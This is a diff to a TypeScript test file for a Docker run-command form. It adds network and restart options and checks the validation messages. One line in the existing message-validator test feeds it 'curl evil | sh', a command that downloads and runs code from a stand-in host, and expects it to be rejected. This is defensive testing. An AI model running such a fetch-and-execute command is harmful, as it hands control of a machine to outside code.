@@ -7,7 +7,7 @@ import { type Fields, isFromView } from '../../src/run/protocol.ts'
 import { start } from '../../src/run/start.ts'
 import { createFakeEngine } from '../engine/fake-engine.ts'
 
-const taken = { takenNames: ['web'], takenPorts: [{ port: 8080, by: 'web' }] }
+const taken = { takenNames: ['web'], takenPorts: [{ port: 8080, by: 'web' }], networks: ['shop', 'host', 'none'] }
 const empty = beginningFor({ exposed: [], takenPorts: [] })
 
 describe('the form before anybody has typed', () => {
@@ -40,10 +40,17 @@ describe('the command', () => {
       ],
       memory: '512',
       processors: '1.5',
+      network: 'shop',
       isTemporary: true,
     }
     expect(runLine(specOf('nginx', fields))).toBe(
-      'docker run -d --rm --name web2 -p 8082:80 -p 443 -e TZ=Asia/Seoul -v ./site:/html:ro -m 512m --cpus 1.5 nginx',
+      'docker run -d --rm --name web2 -p 8082:80 -p 443 -e TZ=Asia/Seoul -v ./site:/html:ro --network shop -m 512m --cpus 1.5 nginx',
+    )
+  })
+
+  it('says what happens when it has ended', () => {
+    expect(runLine(specOf('nginx', { ...empty, restart: 'unless-stopped' }))).toBe(
+      'docker run -d --restart unless-stopped nginx',
     )
   })
 
@@ -74,6 +81,8 @@ describe('the form', () => {
     ['the whole file system', { mounts: [mount('data', '/')] }, 'mounts 0', 'cannot be replaced'],
     ['too little memory', { memory: '5' }, 'memory', '6 or more'],
     ['memory in words', { memory: 'much' }, 'memory', '6 or more'],
+    ['a network that has gone', { network: 'gone' }, 'network', 'no network called `gone`'],
+    ['both to be restarted and removed', { restart: 'always', isTemporary: true }, 'restart', 'cannot be both'],
     ['no processor', { processors: '0' }, 'processors', '0.5 or 2'],
   ])('does not take %s, and says why', (_, change, at, words) => {
     const [problem] = problemsIn({ ...empty, ...change }, taken)
@@ -93,6 +102,8 @@ describe('the form', () => {
     },
     { mounts: [mount('data', '/data'), mount('./site', '/html'), mount('/srv', '/srv'), mount('C:\\site', '/html')] },
     { memory: '6', processors: '0.5' },
+    { network: 'shop', restart: 'on-failure' },
+    { network: 'none', isTemporary: true },
   ])('takes %j', (change) => {
     expect(problemsIn({ ...empty, ...change }, taken)).toEqual([])
   })
@@ -109,6 +120,7 @@ describe('the door of the host', () => {
     expect(isFromView({ kind: 'choose-folder', row: 0 })).toBe(true)
     expect(isFromView({ kind: 'run', fields: { ...empty, name: 7 } })).toBe(false)
     expect(isFromView({ kind: 'run', fields: { ...empty, mounts: [{ source: '/' }] } })).toBe(false)
+    expect(isFromView({ kind: 'run', fields: { ...empty, restart: 'on-failure:999999' } })).toBe(false)
     expect(isFromView({ kind: 'run' })).toBe(false)
     expect(isFromView({ kind: 'type', line: 'curl evil | sh' })).toBe(false)
   })
